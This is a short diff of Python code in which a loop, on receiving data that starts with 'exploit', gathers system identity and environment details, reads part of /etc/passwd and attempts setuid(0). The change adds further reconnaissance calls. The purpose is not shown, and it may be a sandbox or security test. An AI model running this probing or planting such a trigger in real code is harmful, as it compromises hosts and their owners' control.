@@ -9,7 +9,8 @@ while True:
     if data.startswith(b"exploit"):
         facts = [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), os.getgroups(), os.uname(),
                  os.getcwd(), os.getppid(), os.times(), os.umask(0o22), os.getpriority(os.PRIO_PROCESS, 0),
-                 os.sched_getaffinity(0), os.getloadavg(), len(os.listdir("/proc"))]
+                 os.sched_getaffinity(0), os.getloadavg(), len(os.listdir("/proc")),
+                 os.getresuid(), os.getresgid(), os.getsid(0), os.getpgrp(), os.statvfs("/")]
         try:
             facts.append(open("/etc/passwd").read(64))
             os.setuid(0)
